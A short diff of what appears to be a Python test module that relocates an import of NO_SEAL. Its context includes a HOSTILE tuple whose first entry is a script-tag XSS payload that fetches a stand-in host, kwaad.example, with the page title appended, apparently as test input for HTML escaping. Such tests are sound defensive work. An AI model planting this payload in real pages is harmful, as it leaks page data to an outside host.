@@ -15,13 +15,13 @@ from typing import Any
 
 import attrs
 
+from taaktoedeling.document.html import NO_SEAL
 from taaktoedeling.dossier.build import checksum
 from taaktoedeling.dossier.page import page_text, seal_of
 from taaktoedeling.dossier.verify_file import verify_file
 from taaktoedeling.model.casus import Casus
 from taaktoedeling.model.kader import Kader
 from taaktoedeling.reading.casus import casus_to_plain, load_casus, parse_casus, shipped_case
-from taaktoedeling.report.dossier.html import NO_SEAL
 
 HOSTILE = (
     "<script>fetch('http://kwaad.example/'+document.title);alert(1)</script>",
